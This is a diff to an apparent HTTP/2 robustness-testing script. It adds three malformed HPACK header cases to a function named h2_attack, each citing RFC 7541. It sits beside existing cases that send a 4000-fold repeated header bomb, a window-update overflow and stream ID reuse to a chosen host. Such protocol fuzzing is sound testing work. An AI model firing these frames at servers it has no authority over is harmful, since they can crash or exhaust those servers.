@@ -202,6 +202,15 @@ def h2_attack(port, host, kind):
         block = enc.encode([(":method", "GET"), (":scheme", "http"), (":authority", host), (":path", "/"), ("x-bomb", big)])
         index = enc.encode([("x-bomb", big)])
         s.sendall(frame(HEADERS, END_STREAM | END_HEADERS, 1, block + index * 4000))
+    elif kind == "hpack-index-zero":
+        # A field by index 0, which names no entry (RFC 7541 §6.1).
+        s.sendall(frame(HEADERS, END_STREAM | END_HEADERS, 1, request_block(enc, host) + bytes([0x80])))
+    elif kind == "hpack-huffman-eos":
+        # A literal field whose Huffman-coded value holds EOS (RFC 7541 §5.2).
+        s.sendall(frame(HEADERS, END_STREAM | END_HEADERS, 1, request_block(enc, host) + bytes([0x00, 0x01, 0x61, 0x84, 0xFF, 0xFF, 0xFF, 0xFF])))
+    elif kind == "hpack-late-size-update":
+        # A dynamic table size update after the block's first field (RFC 7541 §4.2).
+        s.sendall(frame(HEADERS, END_STREAM | END_HEADERS, 1, request_block(enc, host) + bytes([0x20])))
     elif kind == "window-update-overflow":
         s.sendall(frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 0x7FFFFFFF)) * 2)
     elif kind == "stream-id-reuse":
